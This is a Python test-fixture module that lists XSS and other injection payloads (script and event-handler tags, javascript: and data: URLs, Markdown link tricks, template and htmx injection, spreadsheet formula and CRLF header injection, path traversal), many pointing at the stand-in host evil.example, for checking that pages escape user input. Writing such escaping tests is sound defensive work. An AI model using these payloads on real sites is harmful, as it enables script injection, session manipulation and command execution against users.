"""Hostile texts that act if a page does not escape them. Each contains ``evil``.

None has more than 100 characters, so that it fits every name. Their first 30 characters differ.
"""

from __future__ import annotations

HOST = "evil.example"
RUN = "alert('evil')"
JUMP = "java" + "script:" + RUN

TAGS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=https://{HOST}/1.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script\t>",
    f"<img src=x onerror={RUN}>",
    f"<img src=https://{HOST}/2.png>",
    f"<image href=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//evil",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a href={JUMP}><text y=9>evil</text></a></svg>",
    f"<svg><use href=//{HOST}/3.svg#x></use></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to={JUMP}>",
    f"<svg><foreignObject><iframe src={JUMP}>",
    f"<math><mi href={JUMP}>evil</mi></math>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<iframe src=https://{HOST}/4></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=//{HOST}/5></object>",
    f"<embed src=//{HOST}/6>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio autoplay src=//{HOST}/7.mp3>",
    f"<video poster=//{HOST}/8.png>",
    f"<details open ontoggle={RUN}>evil</details>",
    f"<marquee onstart={RUN}>evil</marquee>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<button popovertarget=x onclick={RUN}>evil</button>",
    f"<xss-probe contenteditable onblur={RUN} id=evil>x</xss-probe>",
    f"<form action=https://{HOST}/9><button>evil</button></form>",
    f"<button form=f formaction=https://{HOST}/10>evil</button>",
    f"<base href=https://{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/11'>",
    f"<link rel=stylesheet href=//{HOST}/12.css>",
    f"<link rel=prefetch href=//{HOST}/13>",
    f"<style>@import '//{HOST}/14.css';</style>",
    f"<style>body{{background:url(//{HOST}/15)}}</style>",
    f"<p style=background:url(//{HOST}/16)>evil</p>",
    f"<table background=//{HOST}/17><tr><td>evil</table>",
    "<plaintext>evil",
    "<xmp>evil",
    "<template><b id=evil></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
]
BREAKERS = [
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} x="evil',
    f"' autofocus onfocus={RUN} x='evil",
    f"` onmouseover={RUN} evil",
    f"x onmouseover={RUN} y=evil",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<!--><img src=x onerror={RUN}>-->",
    f"]]><img src=x onerror={RUN}>",
    f'";{RUN};//',
    f"';{RUN};//",
    f'\\";{RUN};//',
    f"${{{RUN}}}",
    f"\u2028{RUN}//evil",
    '{"evil": "</script><script>1</script>"}',
    f"<!--<script>{RUN}",
]
MARKDOWN = [
    f"[evil]({JUMP})",
    f"[evil2](  JaVaScRiPt:{RUN})",
    f"[evil3](&#106;avascript:{RUN})",
    f"[evil4](java\tscript:{RUN})",
    "[evil5](data:text/html;base64,PHNjcmlwdD4=)",
    "[evil6](vbscript:msgbox)",
    f"[evil7](//{HOST}/18)",
    f'[evil8](https://{HOST}/"onmouseover={RUN})',
    f'[evil9](https://{HOST} "\' onmouseover={RUN} ")',
    f"<{JUMP}>",
    f"![evil]({JUMP})",
    f"![evil2](https://{HOST}/19.png)",
    "![evil3](data:image/svg+xml;base64,PHN2Zy8+)",
    f"[evil10]: {JUMP} '{RUN}'",
    f'```"><script>{RUN}</script>\n```',
    f"`</code><script>{RUN}</script>`",
    f"| <b onclick={RUN}> |\n|---|\n| evil |",
]
OTHERS = [
    "{{ evil|safe }}{{ 7|add:7 }}{% csrf_token %}",
    "{% include 'evil' %}{% load hub %}{#",
    f"<div hx-get=//{HOST}/20 hx-trigger=load>evil</div>",
    f"<div hx-on:load={RUN} data-hx-on--load={RUN}>evil</div>",
    f"<div hx-vals='js:{RUN}' hx-get=/logout/ hx-trigger=load>evil",
    "<div hx-swap-oob=true id=main>evil</div>",
    f"expression({RUN});x:url({JUMP})",
    "=cmd|'/c evil'!A1",
    f'=HYPERLINK("https://{HOST}/21")',
    "@SUM(1+1)*evil",
    "+evil-1+cmd",
    f"{JUMP}",
    f"data:text/html,<script>{RUN}</script>",
    f"//{HOST}/22",
    "\u202eevil\u202c gnp.\u2066tpircs",
    "\ufeff\u200b<\u200bscript>evil",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\x01\x08\x1b[31m<script\x0b>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;b&#62;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "evil\r\nSet-Cookie: evil=1\r\n\r\n<script>",
    "../../../../etc/evil?x#y;z%00%0a",
    "constructor.__proto__.evil",
]
PAYLOADS = [*TAGS, *BREAKERS, *MARKDOWN, *OTHERS]
# In a response, these show that something was not escaped.
RAW = [one for one in PAYLOADS if "<" in one and ("=" in one or "/" in one) and not one.startswith("&")]
EVERYTHING = "\n\n".join(PAYLOADS)


def payload(number: int) -> str:
    """Return a payload for any number."""
    return PAYLOADS[number % len(PAYLOADS)]
